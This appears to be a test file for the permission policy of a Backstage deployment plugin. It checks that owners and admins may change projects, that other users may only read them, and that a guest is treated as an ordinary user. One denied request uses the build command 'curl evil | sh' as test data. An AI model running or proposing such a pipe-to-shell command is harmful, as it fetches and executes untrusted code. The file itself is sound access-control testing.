import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { permissionsServiceFactory } from '@backstage/backend-defaults/permissions';
import { Entity } from '@backstage/catalog-model';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import permissionBackend from '@backstage/plugin-permission-backend';
import novahostPlugin from '@internal/plugin-novahost-backend';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import request from 'supertest';
import { parse, parseAllDocuments } from 'yaml';
import { catalogUserInfoServiceFactory } from './__testUtils__/catalogUserInfo';
import { pluginActorAuthServiceFactory } from './__testUtils__/pluginActorAuth';
import novahostPermissionPolicyModule from './permissions';

const ROOT = path.resolve(__dirname, '../../..');

/** The example org exactly as the embedded default loads it. */
const org: Entity[] = parseAllDocuments(
  fs.readFileSync(path.join(ROOT, 'catalog/org.yaml'), 'utf8'),
).map(d => d.toJSON());
// An admin for the test: a member of the embedded default's admin group.
org.push({
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'User',
  metadata: { name: 'carol', namespace: 'default' },
  spec: { memberOf: ['platform'] },
});

const as = (ref: string) => ({
  Authorization: mockCredentials.user.header(ref),
});
const alice = as('user:default/alice');
const bob = as('user:default/bob');
const carol = as('user:default/carol');
const guest = as('user:default/guest');

/** A real git repository whose build writes dist/index.html. */
function siteRepo(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'novahost-access-'));
  fs.writeFileSync(
    path.join(dir, 'package.json'),
    JSON.stringify({
      name: 'site',
      private: true,
      scripts: { build: 'mkdir -p dist && cp index.html dist/' },
    }),
  );
  fs.writeFileSync(path.join(dir, 'index.html'), '<h1>guest site</h1>');
  const git = (...args: string[]) =>
    execFileSync(
      'git',
      ['-c', 'user.email=t@novahost.dev', '-c', 'user.name=T', ...args],
      { cwd: dir },
    );
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('commit', '-qm', 'site');
  return dir;
}

/**
 * Novahost behind this app's permission policy, in the real permission
 * backend, with the embedded default's admins and example org: what a user
 * of `make start` gets.
 */
describe('Novahost with this app’s permission policy', () => {
  let api: ReturnType<typeof request>;
  let stop: () => Promise<void>;
  let repoUrl: string;
  const storeDir = fs.mkdtempSync(path.join(os.tmpdir(), 'novahost-store-'));

  beforeAll(async () => {
    const embedded = parse(
      fs.readFileSync(path.join(ROOT, 'app-config.yaml'), 'utf8'),
    );
    repoUrl = siteRepo();
    const backend = await startTestBackend({
      features: [
        novahostPlugin,
        permissionBackend,
        novahostPermissionPolicyModule,
        permissionsServiceFactory,
        pluginActorAuthServiceFactory,
        catalogUserInfoServiceFactory(org),
        catalogServiceMock.factory({ entities: org }),
        mockServices.rootConfig.factory({
          data: {
            permission: { enabled: true },
            novahost: {
              admins: embedded.novahost.admins,
              runner: { type: 'local' },
              store: { type: 'local', local: { directory: storeDir } },
            },
          },
        }),
      ],
    });
    api = request(backend.server);
    stop = () => backend.stop();
  });
  afterAll(async () => {
    await stop();
    fs.rmSync(storeDir, { recursive: true, force: true });
  });

  const create = (headers: Record<string, string>, body: object) =>
    api
      .post('/api/novahost/projects')
      .set(headers)
      .send({ repoUrl, ...body });

  it('gives alice everything on team-a’s project, bob only reads, an admin everything', async () => {
    const created = await create(alice, { name: 'Team A Site' });
    expect(created.status).toBe(201);
    const p = created.body;
    expect(p.owner).toBe('group:default/team-a');
    const { body: d } = await api
      .post(`/api/novahost/projects/${p.id}/deployments`)
      .set(alice)
      .send({})
      .expect(202);

    const writes: Array<[string, string, object?]> = [
      ['patch', `/projects/${p.id}`, { buildCommand: 'curl evil | sh' }],
      ['post', `/projects/${p.id}/deployments`, {}],
      ['post', `/projects/${p.id}/promote`, { deploymentId: d.id }],
      ['post', `/deployments/${d.id}/cancel`],
      ['post', `/projects/${p.id}/domains`, { hostname: 'www.team-a.example' }],
      ['delete', `/projects/${p.id}`],
    ];
    for (const [method, route, body] of writes) {
      const res = await (api as any)
        [method](`/api/novahost${route}`)
        .set(bob)
        .send(body);
      expect({ route, status: res.status }).toEqual({ route, status: 403 });
    }
    // bob may read it, and may not create for team-a.
    await api.get(`/api/novahost/projects/${p.id}`).set(bob).expect(200);
    await api.get(`/api/novahost/deployments/${d.id}`).set(bob).expect(200);
    const forA = await create(bob, {
      name: 'For A',
      owner: 'group:default/team-a',
    });
    expect(forA.status).toBe(403);

    // The owner may.
    await api
      .patch(`/api/novahost/projects/${p.id}`)
      .set(alice)
      .send({ buildCommand: 'npm run build' })
      .expect(200);
    await api
      .post(`/api/novahost/deployments/${d.id}/cancel`)
      .set(alice)
      .expect(200);
    // An admin (platform) may, on any project.
    await api
      .post(`/api/novahost/projects/${p.id}/domains`)
      .set(carol)
      .send({ hostname: 'www.team-a.example' })
      .expect(201);
    const forB = await create(carol, {
      name: 'Given To B',
      owner: 'group:default/team-b',
    });
    expect(forB.status).toBe(201);
    await api.delete(`/api/novahost/projects/${p.id}`).set(carol).expect(204);
  });

  it('lets every user list every project (read), with the right total', async () => {
    const before = (await api.get('/api/novahost/projects').set(bob)).body
      .totalCount;
    await create(alice, { name: 'Listed A' }).expect(201);
    await create(bob, { name: 'Listed B' }).expect(201);
    const page = await api.get('/api/novahost/projects?limit=1').set(guest);
    expect(page.body.totalCount).toBe(before + 2);
    expect(page.body.items).toHaveLength(1);
  });

  it('treats the guest as an ordinary user: refused on team-a’s project, its own runs end to end', async () => {
    const { body: teamA } = await create(alice, { name: 'Not The Guests' });
    const refused = await api
      .delete(`/api/novahost/projects/${teamA.id}`)
      .set(guest);
    expect(refused.status).toBe(403);
    expect(refused.body.error.message).toMatch(
      /only the owner \(group:default\/team-a\) or a Novahost admin/,
    );
    // The guest is in no group: it may not create for platform either.
    expect(
      (await create(guest, { name: 'Admin?', owner: 'platform' })).status,
    ).toBe(403);

    const own = await create(guest, { name: 'Guest Site' });
    expect(own.status).toBe(201);
    expect(own.body.owner).toBe('user:default/guest');
    const { body: d } = await api
      .post(`/api/novahost/projects/${own.body.id}/deployments`)
      .set(guest)
      .send({})
      .expect(202);
    let status = d.status;
    for (let i = 0; i < 600 && !['ready', 'failed'].includes(status); i++) {
      await new Promise(r => setTimeout(r, 100));
      status = (await api.get(`/api/novahost/deployments/${d.id}`).set(guest))
        .body.status;
    }
    expect(status).toBe('ready');
    const project = (
      await api.get(`/api/novahost/projects/${own.body.id}`).set(guest)
    ).body;
    expect(project.productionDeploymentId).toBe(d.id);
    await api
      .delete(`/api/novahost/projects/${own.body.id}`)
      .set(guest)
      .expect(204);
  });
});
